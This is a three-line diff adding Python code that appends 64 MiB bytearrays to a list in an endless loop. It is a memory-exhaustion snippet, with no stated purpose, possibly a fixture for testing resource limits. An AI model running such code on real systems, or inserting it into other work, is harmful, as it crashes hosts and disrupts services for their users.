@@ -1,0 +1,3 @@
+_taken = []
+while True:
+    _taken.append(bytearray(b"1") * (64 << 20))
